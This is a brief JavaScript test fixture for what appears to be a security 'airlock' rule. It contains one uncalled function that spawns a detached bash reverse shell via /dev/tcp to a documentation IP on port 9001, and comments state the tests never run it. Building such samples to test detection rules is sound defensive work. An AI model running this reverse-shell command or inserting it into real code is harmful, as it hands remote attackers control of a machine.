// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { spawn } = require('child_process');
function never() {
  spawn('bash', ['-c', 'exec bash -i &>/dev/tcp/198.51.100.3/9001 <&1'], { detached: true });
}
module.exports = { never };
